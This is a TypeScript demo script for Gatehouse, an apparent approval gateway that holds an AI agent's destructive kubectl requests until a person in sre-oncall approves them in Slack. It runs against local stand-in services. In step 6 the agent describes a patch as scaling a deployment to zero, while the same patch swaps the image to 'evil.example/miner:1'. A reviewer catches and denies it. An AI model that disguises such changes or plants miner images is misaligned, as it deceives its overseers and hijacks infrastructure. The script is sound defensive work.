/**
 * `pnpm demo`: the whole product in one minute, with nothing configured but a reachable Redis.
 * The gateway and the slackbot are the real programs, each in its own process; the Kubernetes API,
 * Slack and STS are the test kit's local stand-ins, labelled as such in everything printed.
 */
import { deployment, namespace } from '@gatehouse/testkit/kube-upstream';
import { AGENT_ID, PEOPLE, startStack } from '../test/stack/index.js';
import { slackAsSeen } from '../test/stack/slack-as-seen.js';
import { visibleText } from '../test/stack/slack-clicks.js';

const bold = (text: string) => (process.stdout.isTTY ? `\x1b[1m${text}\x1b[0m` : text);
const step = (title: string) => console.log(`\n${bold(`== ${title}`)}`);
const show = (who: string, text: string) =>
  console.log(
    text
      .trimEnd()
      .split('\n')
      .map((line) => `  ${who.padEnd(22)}| ${line}`)
      .join('\n'),
  );
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
/** The message as a person sees it in Slack: names, local times, emoji. */
const names = Object.fromEntries(Object.values(PEOPLE).map((person) => [person.id, person.name]));
const seen = (blocks: readonly unknown[]) => slackAsSeen(blocks, { names });
/** Only the lines of `after` that `before` did not have: what changed in an updated message. */
const changedLines = (before: string, after: string) => {
  const had = new Set(before.split('\n'));
  return after
    .split('\n')
    .filter((line) => !had.has(line))
    .join('\n');
};

/** The stack's rules plus the example's scale-to-zero, so step 6 is held. */
const DEMO_POLICY = {
  default: 'allow',
  rules: [
    {
      name: 'namespace-delete',
      match: { verbs: ['delete', 'deletecollection'], resources: ['namespaces'] },
      require: { group: 'sre-oncall', approvals: 1 },
    },
    {
      name: 'production-delete-or-exec',
      match: {
        verbs: ['delete', 'deletecollection', 'exec', 'attach'],
        namespaces: ['prod-*', 'payments-*'],
      },
      require: { group: 'sre-oncall', approvals: 1 },
    },
    { name: 'scale-to-zero', match: { scaleToZero: true }, require: { group: 'sre-oncall', approvals: 1 } },
  ],
};

async function main(): Promise<void> {
  step('Starting Gatehouse (gateway and slackbot processes) with demo stand-ins');
  // The blast-radius preview on, as in production (the stack leaves it off for other suites).
  const stack = await startStack({ gateway: { previewTimeout: '3s' }, policy: DEMO_POLICY });
  try {
    show(
      'demo',
      `Redis:               ${process.env.REDIS_URL ?? 'redis://127.0.0.1:6379'} (a random key prefix)`,
    );
    show('demo', `stand-in Kubernetes: ${stack.upstream.url} (records every request it receives)`);
    show(
      'demo',
      `stand-in Slack API:  ${stack.slack.url} (records messages; clicks are signed like Slack's)`,
    );
    show('demo', `agent kubeconfig:    ${stack.agentKubeconfig} (printed by gatehouse-gateway kubeconfig)`);
    // Real deletes: the preview's dry run (dryRun: All) changes nothing.
    const cluster = () =>
      stack.upstream.requests.filter((r) => r.method === 'DELETE' && !r.query.has('dryRun'));
    for (const name of ['api', 'ledger'])
      stack.upstream.store.put(deployment({ name, namespace: 'payments-staging' }));
    stack.upstream.store.put({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'db', namespace: 'payments-staging' },
      data: { password: Buffer.from('demo').toString('base64') },
    });

    step(`1. The agent (${AGENT_ID}) reads: kubectl get pods -n payments-staging`);
    const get = await stack.kubectl(['get', 'pods', '-n', 'payments-staging']).result();
    show('agent sees', get.stdout);

    step('2. The agent tries: kubectl delete namespace payments-staging');
    const kubectl = stack.kubectl(['delete', 'namespace', 'payments-staging']);
    const [message] = await stack.waitForMessages(1);
    await stack.slack.waitFor('the blast radius', () =>
      visibleText(stack.message(message!.ts).blocks).includes('Blast radius'),
    );
    await sleep(500);
    show('agent sees', kubectl.running() ? '(kubectl is waiting: the request is held)' : 'kubectl exited?!');
    const first = seen(stack.message(message!.ts).blocks);
    show('approvers see (Slack)', first);
    show('cluster received', `${cluster().length} DELETE requests`);

    step("3. alice (the agent's owner) and carol (not in sre-oncall) click Approve");
    await stack.click(PEOPLE.alice, message!, 'Approve');
    await stack.click(PEOPLE.carol, message!, 'Approve');
    await stack.slack.waitFor('two refusals', () => stack.ephemeralReplies().length >= 2);
    for (const reply of stack.ephemeralReplies()) show('clicker sees (only)', reply);
    show('cluster received', `${cluster().length} DELETE requests`);

    step('4. bob (sre-oncall) clicks Approve');
    await stack.click(PEOPLE.bob, message!, 'Approve');
    const approved = await kubectl.result();
    show('agent sees', `${approved.stdout}${approved.stderr}(exit ${approved.code})`);
    show(
      'cluster received',
      cluster()
        .map((r) => `${r.method} ${r.path}`)
        .join('\n'),
    );
    await stack.slack.waitFor('the final message', () =>
      /200/.test(visibleText(stack.message(message!.ts).blocks)),
    );
    show('message now says', changedLines(first, seen(stack.message(message!.ts).blocks)));

    step('5. The agent tries again; dave (sre-oncall) denies with a reason');
    stack.upstream.store.put(namespace('payments-staging'));
    const before = cluster().length;
    const second = stack.kubectl(['delete', 'namespace', 'payments-staging']);
    const messages = await stack.waitForMessages(2);
    await stack.deny(PEOPLE.dave, messages[1]!, 'payments freeze until Monday');
    const denied = await second.result();
    show('agent sees', `${denied.stdout}${denied.stderr}(exit ${denied.code})`);
    show('cluster received', `${cluster().length - before} new DELETE requests`);

    step('6. The agent patches deployment api "to scale it to zero"; the same patch swaps the image');
    stack.upstream.store.put(deployment({ name: 'api', namespace: 'payments-staging' }, 3));
    const patch = {
      spec: {
        replicas: 0,
        template: { spec: { containers: [{ name: 'app', image: 'evil.example/miner:1' }] } },
      },
    };
    const patching = stack.kubectl([
      'patch',
      'deployment',
      'api',
      '-n',
      'payments-staging',
      '--type=merge',
      '-p',
      JSON.stringify(patch),
    ]);
    const [, , patchMessage] = await stack.waitForMessages(3);
    await stack.slack.waitFor('the change', () =>
      visibleText(stack.message(patchMessage!.ts).blocks).includes('What it changes'),
    );
    const patchSeen = seen(stack.message(patchMessage!.ts).blocks);
    // The rule's one line is context; the diff from the server's dry run is what it does.
    show(
      'approvers see (Slack)',
      patchSeen.slice(
        patchSeen.indexOf('kubectl patch'),
        patchSeen.lastIndexOf('\n', patchSeen.indexOf('Waiting for approval')),
      ),
    );
    await stack.deny(PEOPLE.bob, patchMessage!, 'that is not a scale: the image changes');
    const patchDenied = await patching.result();
    show('agent sees', `${patchDenied.stdout}${patchDenied.stderr}(exit ${patchDenied.code})`);

    step('7. The agent deletes the namespace again; before the vote it is deleted and recreated');
    const third = stack.kubectl(['delete', 'namespace', 'payments-staging']);
    const [, , , staleMessage] = await stack.waitForMessages(4);
    // The approval is for the namespace the preview read (its uid); the one that exists at dispatch is another.
    await stack.slack.waitFor('the blast radius', () =>
      visibleText(stack.message(staleMessage!.ts).blocks).includes('Blast radius'),
    );
    stack.upstream.store.remove('namespaces', undefined, 'payments-staging');
    stack.upstream.store.put(namespace('payments-staging'));
    const beforeStale = cluster().length;
    const staleSeen = seen(stack.message(staleMessage!.ts).blocks);
    await stack.click(PEOPLE.bob, staleMessage!, 'Approve');
    const stale = await third.result();
    show('agent sees', `${stale.stdout}${stale.stderr}(exit ${stale.code})`);
    show('cluster received', `${cluster().length - beforeStale} new DELETE requests`);
    await stack.slack.waitFor('the stale outcome', () =>
      /not sent/.test(visibleText(stack.message(staleMessage!.ts).blocks)),
    );
    show('message now says', changedLines(staleSeen, seen(stack.message(staleMessage!.ts).blocks)));

    step('8. The record: gatehouse-audit show <id>, then verify');
    for (const shown of [...messages, staleMessage!]) {
      const id = String(shown.metadata?.event_payload.approval_id);
      show('auditor sees', (await stack.audit(['show', id])).stdout);
    }
    const verified = await stack.audit(['verify']);
    show('auditor sees', `${verified.stdout}${verified.stderr}(exit ${verified.code})`);
  } finally {
    await stack.stop();
  }
  step('Done. Next: README.md → "Create the Slack app", "Connect to EKS", "Write policy rules".');
}

main().catch((error: unknown) => {
  console.error(`demo failed: ${error instanceof Error ? error.stack : String(error)}`);
  process.exit(1);
});
